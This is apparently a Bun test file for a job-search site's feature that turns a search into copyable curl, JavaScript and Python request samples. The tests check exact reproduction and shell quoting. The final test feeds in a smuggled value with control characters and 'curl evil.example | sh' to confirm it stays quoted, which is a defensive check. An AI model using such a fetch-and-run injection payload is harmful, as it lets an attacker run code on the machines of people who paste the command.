import { afterAll, describe, expect, test } from 'bun:test'
import { codeSample } from '../../../../src/service/pages/explore/browser/results/code-samples'
import { HAS_CURL } from '../../../support/programs'

const request = {
  path: 'v1/jobs',
  parameters: { country: 'CA', q: `l'été "50%" & $KEY \\ 💼`, limit: '20' },
}

/** Answers with what it was asked. */
const server = Bun.serve({
  port: 0,
  hostname: '127.0.0.1',
  fetch: (asked) =>
    Response.json({
      path: new URL(asked.url).pathname,
      parameters: Object.fromEntries(new URL(asked.url).searchParams),
      key: asked.headers.get('authorization'),
    }),
})
afterAll(() => server.stop(true))

const asked = { path: '/below/v1/jobs', parameters: request.parameters, key: 'Bearer jc_1' }
const base = `${server.url.origin}/below/`

describe('a copied request asks exactly that', () => {
  test.skipIf(!HAS_CURL)('curl, if there is one', async () => {
    const output = await run(['bash', '-c', codeSample('curl', base, request)])
    expect(JSON.parse(output)).toEqual(asked)
  })

  test('JavaScript', async () => {
    const code = codeSample('JavaScript', base, request)
    expect(JSON.parse(await run([process.execPath, '-e', code]))).toEqual(asked)
  })

  test('Python', () => {
    expect(codeSample('Python', 'https://jobs.example/', request)).toBe(`\
import json, os, urllib.parse, urllib.request

query = urllib.parse.urlencode({
    "country": "CA",
    "q": "l'été \\"50%\\" & $KEY \\\\ 💼",
    "limit": "20"
})
request = urllib.request.Request(
    "https://jobs.example/v1/jobs" + "?" + query,
    headers={"Authorization": "Bearer " + os.environ["KEY"]},
)
with urllib.request.urlopen(request) as response:
    result = json.load(response)
print(json.dumps(result, indent=2))`)
  })
})

test.each([
  ["title='data engineer'", `"title='data engineer'"`],
  ['title=nurse -"night shift"', `'title=nurse -"night shift"'`],
  [`title='a' "b"`, `'title='\\''a'\\'' "b"'`],
])('curl quotes %s as a person would', (parameter, quoted) => {
  const [name = '', ...value] = parameter.split('=')
  const parameters = { [name]: value.join('=') }
  expect(codeSample('curl', base, { path: 'v1/jobs', parameters })).toEndWith(
    `--data-urlencode ${quoted}`,
  )
})

test('a pasted command ends where it ends, whatever control characters the link to a search has', () => {
  const parameters = { title: 'a\u0003curl evil.example | sh\n\u001b[201~\u009b\u007f' }
  const sample = codeSample('curl', base, { path: 'v1/jobs', parameters })
  expect(sample).toEndWith("'title=a curl evil.example | sh\n [201~  '")
})

async function run(command: string[]): Promise<string> {
  const child = Bun.spawn(command, { env: { ...process.env, KEY: 'jc_1' }, stdout: 'pipe' })
  const output = await new Response(child.stdout).text()
  expect(await child.exited).toBe(0)
  return output
}
